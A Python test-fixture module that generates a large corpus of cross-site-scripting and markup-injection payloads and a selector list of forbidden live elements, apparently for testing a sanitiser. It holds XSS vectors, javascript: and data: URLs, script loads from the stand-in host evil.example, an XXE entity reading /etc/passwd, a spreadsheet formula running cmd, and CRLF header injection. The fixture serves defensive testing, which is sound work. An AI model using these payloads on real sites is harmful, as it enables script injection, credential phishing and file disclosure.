"""Texts that would run, load, navigate or restyle where a page took them for markup: families times vectors."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

#: What a text calls that runs; the browser's watch turns each dialog into an error.
_RUN = "alert(document.domain)"
#: Where a text would load something from; nobody answers there, and the watch keeps every foreign address.
_AWAY = "https://evil.example"

#: Elements with the event that fires by itself, or at the lightest touch.
_EVENTS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("video src=x", "onerror"),
    ("audio src=x", "onerror"), ("video", "onloadstart"), ("details open", "ontoggle"), ("marquee", "onstart"),
    ("object data=x", "onerror"), ("iframe", "onload"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
    ("div", "onmouseover"), ("p", "onpointerenter"), ("a href=#", "onclick"), ("form", "onsubmit"),
    ("b tabindex=1 id=x", "onfocusin"), ("div style='animation:a 1s'", "onanimationstart"),
    ("div style='transition:all 1s'", "ontransitionend"), ("button popovertarget=x", "onbeforetoggle"),
    ("image src=x", "onerror"), ("math", "onmouseenter"), ("svg><animate attributeName=x", "onbegin"),
    ("svg><set attributeName=x", "onend"), ("picture><img srcset=x", "onerror"), ("track default src=x", "onerror"),
    ("keygen autofocus", "onfocus"),
)  # fmt: skip
#: Addresses that run, however they are written.
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}", f"javascript&colon;{_RUN}", f"&#106;avascript:{_RUN}", f"&#x6A;avascript&#58;{_RUN}",
    f"javascript://%0a{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload='{_RUN}'/>",
    f"blob:{_AWAY}/x", f"view-source:javascript:{_RUN}", f"feed:javascript:{_RUN}", f"//evil.example/{_RUN}",
    "/media/../api/v1/agents", "\\\\evil.example\\x", "file:///etc/passwd", "intent://evil#Intent;scheme=http;end",
)  # fmt: skip
#: Ways out of an attribute, a comment, a text that holds its markup back, a script or a template.
_EXITS = (
    '">', "'>", "`>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
    "</iframe>", "</select>", "*/", "\\\">", "%22%3E", "&quot;&gt;", "\u2028", "\ufeff", "\u202e",
)  # fmt: skip
#: Texts that need no element: they speak to templates, style sheets, headers, or to what reads the text once more.
_OTHERS = (
    "{{constructor.constructor('" + _RUN + "')()}}", "{{$on.constructor('" + _RUN + "')()}}", "${" + _RUN + "}",
    "<%= " + _RUN + " %>", "#{" + _RUN + "}", "[[${" + _RUN + "}]]", "{{{ <b>x</b> }}}", "{% raw %}<b>{% endraw %}",
    "<style>*{display:none!important}</style>", f"<style>@import '{_AWAY}/a.css';</style>",
    f"<div style=\"background:url({_AWAY}/b.png)\">x</div>", "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    f"<link rel=stylesheet href={_AWAY}/c.css>", f"<link rel=preload as=image href={_AWAY}/d.png>",
    f"<link rel=dns-prefetch href={_AWAY}>", f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>", f"<form action={_AWAY}><button>登录</button></form>",
    f"<button form=f formaction=javascript:{_RUN}>x</button>", f"<object data={_AWAY}/x.swf></object>",
    f"<embed src={_AWAY}/x.swf>", f"<applet code={_AWAY}/x></applet>", f"<frameset><frame src={_AWAY}></frameset>",
    f"<portal src={_AWAY}></portal>", f"<img src={_AWAY}/e.png>", f"<img srcset='{_AWAY}/f.png 2x'>",
    f"<video poster={_AWAY}/g.png></video>", f"<audio src={_AWAY}/h.ogg autoplay></audio>",
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>", f"<iframe src=\"javascript:{_RUN}\"></iframe>",
    f"<script src={_AWAY}/i.js></script>", f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script/x>{_RUN}</script/y>", f"<script\n>{_RUN}</script\n>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>", "<x id=document><x id=cookie>",
    "<a id=defaultView href=cid:x>", "<form id=attributes><input name=innerHTML>", "<img name=getElementById>",
    "<b>粗体<i>没有收尾", "<!--", "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>", "\u0000<script>alert(1)</script>".replace("\u0000", "\u200b"),
    "=HYPERLINK(\"https://evil.example\",\"点我\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "__proto__", "constructor", "toString",
    "%0d%0aSet-Cookie:x=1", "\\u003cimg src=x onerror=alert(1)\\u003e", "😈‍<img/src='x'/onerror=alert`1`>",
)  # fmt: skip


def _all() -> Iterator[str]:
    for element, event in _EVENTS:
        yield f"<{element} {event}={_RUN}>"
    for address in _ADDRESSES:
        yield f"[点我]({address})"
        yield f'<a href="{address}">点我</a>'
    yield from (f"![图]({address})" for address in _ADDRESSES[::3])
    yield from (
        f"[![片]({_AWAY}/p.png)]({address}/x.mp4)" for address in (_AWAY, f"javascript:{_RUN}//", "//evil.example")
    )
    yield f"![片]({_AWAY}/q.webm?media.mp4) ![片](data:video/mp4;base64,AAAA#.mp4)"
    for leave in _EXITS:
        yield f"{leave}<img src=x onerror={_RUN}>"
    yield from _OTHERS
    yield f"**<b onmouseover={_RUN}>粗</b>** `<img src=x onerror={_RUN}>` ~~<s>x</s>~~"
    yield f"| a | b |\n| --- | --- |\n| <img src=x onerror={_RUN}> | [x](javascript:{_RUN}) |"
    yield f"1. <svg onload={_RUN}>\n2. > <iframe src=javascript:{_RUN}>\n\n```html\n<script>{_RUN}</script>\n```"
    yield f"[x]: javascript:{_RUN}\n[点我][x]"
    yield f"<javascript:{_RUN}>"
    yield f'![{"](" * 3}x]({_AWAY}/j.png "t" onerror={_RUN})'


#: The whole corpus.
MARKUP: tuple[str, ...] = tuple(_all())

#: What no page may hold because somebody's text said so. The pages' own scripts have an address of their own.
LIVE = (
    "script:not([src]), iframe[src^='javascript' i], iframe[srcdoc], object, embed, applet, portal, base, marquee, "
    "meta[http-equiv='refresh'], [onerror], [onload], [onfocus], [onmouseover], [onclick], [ontoggle], [onbegin], "
    "[onpointerenter], [onanimationstart], [onsubmit], img[src='x'], a[href^='javascript' i], a[href^='data' i], "
    "a[href^='vbscript' i], [src*='evil.example'], [srcset*='evil.example'], [poster*='evil.example'], "
    "form[action*='evil.example'], link[href*='evil.example'], [style*='evil.example'], [id='cookie']"
)


def portions(limit: int, *, lines: bool = True) -> list[str]:
    """The whole corpus in as few texts as a field of ``limit`` characters needs; without ``lines`` each on one line.

    A text that alone is longer than the field is left out.
    """
    kept = list(MARKUP) if lines else list(dict.fromkeys(" ".join(text.split()) for text in MARKUP))
    texts: list[str] = []
    present = ""
    for text in kept:
        if len(text) > limit:
            continue
        joined = f"{present}{chr(10) * 2 if lines else ' '}{text}" if present else text
        if len(joined) > limit:
            texts.append(present)
            joined = text
        present = joined
    return [*texts, present]


def some(count: int, limit: int) -> list[str]:
    """So many single texts that fit into a field, from all over the corpus."""
    fitting = [" ".join(text.split()) for text in MARKUP if len(text) <= limit]
    return list(islice(fitting[:: max(1, len(fitting) // count)], count))
